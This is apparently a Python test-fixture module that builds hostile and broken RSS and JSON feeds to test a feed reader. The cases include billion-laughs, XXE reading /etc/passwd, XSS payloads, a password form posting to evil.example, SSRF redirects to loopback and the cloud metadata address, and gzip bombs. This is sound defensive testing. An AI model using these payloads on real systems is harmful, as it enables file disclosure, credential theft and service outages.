"""Hostile and broken feeds, one per case, for tests/test_hostile.py and benchmarks/hostile.py.

Each case is a behaviour of tests/hostile_server.py: a document served as a feed, or a way
of serving (hanging, dribbling, resetting, redirecting). `CASES` names every case with its
class (malformed, resource, server, ssrf, injection).
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from email.utils import format_datetime
from xml.sax.saxutils import escape

import hostile_server as hs

# Six hours ago: every build in the tests and the benchmark sees the entries in its window.
DATE = format_datetime(datetime.now(UTC) - timedelta(hours=6))
BODY = "<p>The council approved the new harbour wall on Monday. Work starts in spring.</p>"


def item(
    title: str = "A story",
    link: str = "https://example.org/story",
    body: str = BODY,
    date: str | None = DATE,
    guid: str | None = None,
    raw_title: bool = False,
) -> str:
    parts = [f"<title>{title if raw_title else escape(title)}</title>" if title else ""]
    parts.append(f"<link>{escape(link)}</link>" if link else "")
    parts.append(f"<guid>{escape(guid)}</guid>" if guid else "")
    parts.append(f"<pubDate>{date}</pubDate>" if date else "")
    parts.append(f"<description>{escape(body)}</description>")
    return "<item>" + "".join(parts) + "</item>"


def rss(
    *items: str, head: str = "", declaration: str = '<?xml version="1.0" encoding="utf-8"?>'
) -> str:
    return (
        f'{declaration}{head}<rss version="2.0"><channel><title>Feed</title>'
        f"<link>https://example.org/</link><description>d</description>{''.join(items)}"
        "</channel></rss>"
    )


# documents -----------------------------------------------------------------------------------

BILLION_LAUGHS = rss(
    item("&lol9;", raw_title=True),
    head='<!DOCTYPE rss [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">'
        for n in range(1, 10)
    )
    + "]>",
)

# ~150 KB: one 4 KB entity used 30 times in each of 60 entries (a quadratic blow-up for
# parsers that expand it: 7 MB of text from 150 KB).
QUADRATIC = rss(
    *[item(f"Entry {n}", f"https://example.org/{n}", "&big;" * 30) for n in range(60)],
    head=f'<!DOCTYPE rss [<!ENTITY big "{"B" * 4000}">]>',
).replace("&amp;big;", "&big;")

XXE = rss(
    item("&xxe;", raw_title=True),
    head='<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
)

NESTED_CONTENT = rss(
    item("Deep", "https://example.org/deep", "<div>" * 50_000 + "deep text" + "</div>" * 50_000)
)
NESTED_XML = rss(item("Deep XML")).replace(
    "<channel>", "<channel>" + "<x>" * 50_000 + "</x>" * 50_000, 1
)
LONG_WORD = rss(
    item("W" * 1_000_000, "https://example.org/word", "<p>" + "A" * 1_000_000 + " end.</p>")
)
MANY_ENTRIES = rss(*[f"<item><title>N{n}</title></item>" for n in range(100_000)])  # 3 MB


def truncated() -> str:
    whole = rss(*[item(f"T{n}", f"https://example.org/t{n}") for n in range(3)])
    return whole[: whole.index("<item>", whole.index("T2") - 20) + 30]


WRONG_ENCODING = rss(item("Café crème", "https://example.org/cafe")).encode("windows-1252")
LATIN1_LABEL_UTF8_BYTES = rss(
    item("Zoë’s naïve café", "https://example.org/zoe"),
    declaration='<?xml version="1.0" encoding="iso-8859-1"?>',
).encode("utf-8")
UTF16_BOM = rss(
    item("Unicode ✓", "https://example.org/u16"),
    declaration='<?xml version="1.0" encoding="utf-16"?>',
).encode("utf-16")
UTF8_BOM = b"\xef\xbb\xbf" + rss(item("Bommed", "https://example.org/bom")).encode()
UNDEFINED_ENTITIES = rss(
    item("Caf&eacute;&nbsp;au&nbsp;lait &bogus;", "https://example.org/ent", raw_title=True)
)
CONTROL_CHARS = rss(
    item(
        "Nul\x00l and \x07bell\x1b",
        "https://example.org/ctrl",
        "<p>Text\x00 with\x0c controls.</p>",
    )
)
MISSING_FIELDS = rss(
    item(
        "",
        "https://example.org/untitled",
        "<p>The body gives the title when the feed does not.</p>",
    ),
    item("No link", "", date=None),
    item("No date", "https://example.org/nodate", date=None),
)
BAD_DATES = rss(
    item("Garbage date", "https://example.org/garbage", date="the day after tomorrow"),
    item("Far future", "https://example.org/future", date="Mon, 01 Jan 2199 00:00:00 +0000"),
    item("Year 99999", "https://example.org/y", date="Mon, 01 Jan 99999 00:00:00 +0000"),
)
DUPLICATE_GUIDS = rss(
    item("First copy", "https://example.org/dup1", guid="same-guid"),
    item("Second copy", "https://example.org/dup2", guid="same-guid"),
)
RELATIVE_LINKS = rss(
    item(
        "Relative",
        "/posts/relative",
        '<p>See <a href="../about">about</a>. <img src="pic.jpg" alt="p"></p>',
    )
)
NO_VERSION = "<?xml version='1.0'?><catalog><book><title>Not a feed</title></book></catalog>"
HTML_ERROR_PAGE = (
    "<!DOCTYPE html><html><head><title>502 Bad Gateway</title></head>"
    "<body><h1>Bad Gateway</h1></body></html>"
)

INJECTION_BODY = (
    '<!--><img src=x onerror="alert(1)">-->'
    '<svg><a xlink:href="javascript:alert(2)"><text>svg link</text></a>'
    '<animate attributeName="href" to="javascript:alert(3)"/></svg>'
    '<form action="https://evil.example/steal"><input type="password" name="pw"></form>'
    '<a href="jav&#x09;ascript:alert(4)">tab</a> <a href="&#106;avascript:alert(5)">entity</a> '
    '<a href="JaVaScRiPt:alert(6)">case</a> <a href=" javascript:alert(7)">space</a>'
    '<style>body { background: red }</style><p style="color: red" onclick="alert(8)">'
    "Template {{ 7 * 7 }} and {% for x in y %}loop{% endfor %} stay text.</p>"
    '<link rel="stylesheet" href="https://evil.example/x.css"><script>alert(9)</script>'
    '<iframe src="https://evil.example/"></iframe>'
    '<img src="http://127.0.0.1:9/tracker.gif" alt="t">'
)
INJECTION = rss(
    item(
        "<script>alert('title')</script> {{ 6 * 7 }} Title", "javascript:alert(10)", INJECTION_BODY
    ),
    item("Injected two", "https://example.org/two", "<p>Plain second entry about the harbour.</p>"),
)


def good_feed(name: str, count: int = 3) -> str:
    return rss(
        *[
            item(
                f"{name} story {n}",
                f"https://{name.lower()}.example/story-{n}",
                f"<p>{name} reported item {n} today. The {name} desk confirmed the figures "
                "on Monday. More follows next week.</p>",
            )
            for n in range(count)
        ]
    )


# cases ---------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    name: str
    kind: str  # malformed | resource | server | ssrf | injection
    behaviour: Callable[[str, int], hs.Behaviour]  # (its path, the other server's port)


def _doc(
    document: str | bytes, content_type: str = "application/rss+xml"
) -> Callable[..., hs.Behaviour]:
    return lambda path, other: hs.respond(document, content_type=content_type)


def _big_stream(size: int) -> Callable[..., hs.Behaviour]:
    chunk = item("filler", "https://example.org/f").encode() * 200
    return lambda path, other: hs.stream(lambda: (chunk for _ in range(size // len(chunk) + 1)))


CASES: list[Case] = [
    Case("not-xml", "malformed", _doc("this is not xml, just words", "text/plain")),
    Case("html-error-page", "malformed", _doc(HTML_ERROR_PAGE, "application/rss+xml")),
    Case("truncated", "malformed", _doc(truncated())),
    Case("wrong-encoding", "malformed", _doc(WRONG_ENCODING)),
    Case("latin1-label-utf8", "malformed", _doc(LATIN1_LABEL_UTF8_BYTES)),
    Case("utf16-bom", "malformed", _doc(UTF16_BOM)),
    Case("utf8-bom", "malformed", _doc(UTF8_BOM)),
    Case("undefined-entities", "malformed", _doc(UNDEFINED_ENTITIES)),
    Case("control-chars", "malformed", _doc(CONTROL_CHARS)),
    Case("missing-fields", "malformed", _doc(MISSING_FIELDS)),
    Case("bad-dates", "malformed", _doc(BAD_DATES)),
    Case("duplicate-guids", "malformed", _doc(DUPLICATE_GUIDS)),
    Case("relative-links", "malformed", _doc(RELATIVE_LINKS)),
    Case("no-version", "malformed", _doc(NO_VERSION)),
    Case("empty-body", "malformed", _doc(b"")),
    Case("wrong-content-type", "malformed", _doc(good_feed("Octet"), "application/octet-stream")),
    Case(
        "json-malformed",
        "malformed",
        _doc('{"version": "https://jsonfeed.org/version/1.1", "items": [', "application/feed+json"),
    ),
    Case("json-deep", "malformed", _doc("[" * 100_000 + "]" * 100_000, "application/json")),
    Case(
        "json-odd-types",
        "malformed",
        _doc(
            '{"version": "https://jsonfeed.org/version/1.1", "title": 5, "items": [{"id": 7, '
            '"title": ["x"], "url": {"a": 1}, "content_text": "Odd types survive."}, 3, null]}',
            "application/feed+json",
        ),
    ),
    Case("billion-laughs", "resource", _doc(BILLION_LAUGHS)),
    Case("quadratic-entity", "resource", _doc(QUADRATIC)),
    Case("xxe", "resource", _doc(XXE)),
    Case("gzip-bomb", "resource", lambda path, other: hs.gzip_bomb(1 << 30)),
    Case(
        "50mb-declared",
        "resource",
        lambda path, other: hs.respond(
            b"<rss>" + b" " * (50 << 20), content_type="application/rss+xml"
        ),
    ),
    Case("50mb-streamed", "resource", _big_stream(50 << 20)),
    Case("100k-entries", "resource", _doc(MANY_ENTRIES)),
    Case("nested-content", "resource", _doc(NESTED_CONTENT)),
    Case("nested-xml", "resource", _doc(NESTED_XML)),
    Case("long-word", "resource", _doc(LONG_WORD)),
    Case("hang", "server", lambda path, other: hs.hang),
    Case("dribble-body", "server", lambda path, other: hs.dribble(good_feed("Drip").encode(), 0.2)),
    Case(
        "dribble-headers",
        "server",
        lambda path, other: hs.dribble(good_feed("Drip").encode(), 0.2, in_headers=True),
    ),
    Case("redirect-loop", "server", lambda path, other: hs.redirect(path)),
    Case("redirect-chain", "server", lambda path, other: hs.redirect("/chain/1")),
    Case("not-found", "server", lambda path, other: hs.status(404)),
    Case("forbidden", "server", lambda path, other: hs.status(403)),
    Case("server-error", "server", lambda path, other: hs.status(500)),
    Case("rate-limited", "server", lambda path, other: hs.status(429, {"Retry-After": "3600"})),
    Case(
        "unavailable",
        "server",
        lambda path, other: hs.status(503, {"Retry-After": "Wed, 21 Oct 2099 07:28:00 GMT"}),
    ),
    Case("reset", "server", lambda path, other: hs.reset),
    Case("gone", "server", lambda path, other: hs.status(410)),
    Case(
        "to-localhost", "ssrf", lambda path, other: hs.redirect(f"http://localhost:{other}/secret")
    ),
    Case(
        "to-decimal-ip",
        "ssrf",
        lambda path, other: hs.redirect(f"http://2130706433:{other}/secret"),
    ),
    Case(
        "to-octal-ip", "ssrf", lambda path, other: hs.redirect(f"http://0177.0.0.1:{other}/secret")
    ),
    Case(
        "to-mapped-ipv6",
        "ssrf",
        lambda path, other: hs.redirect(f"http://[::ffff:127.0.0.1]:{other}/secret"),
    ),
    Case(
        "to-metadata",
        "ssrf",
        lambda path, other: hs.redirect("http://169.254.169.254/latest/meta-data/"),
    ),
    Case("injection", "injection", _doc(INJECTION)),
]


def install(server: hs.HostileServer, other_port: int, copies: int = 1) -> dict[str, str]:
    """Serve every case (`copies` times each, at /<name>/<n>) and return name -> URL."""
    urls: dict[str, str] = {}
    for case in CASES:
        for copy in range(copies):
            path = f"/{case.name}" + (f"/{copy}" if copies > 1 else "")
            urls[case.name + (f"-{copy}" if copies > 1 else "")] = server.add(
                path, case.behaviour(path, other_port)
            )
    for hop in range(1, 12):  # the redirect chain: /chain/1 -> /chain/2 -> ... -> /chain/12
        server.add(f"/chain/{hop}", hs.redirect(f"/chain/{hop + 1}"))
    return urls
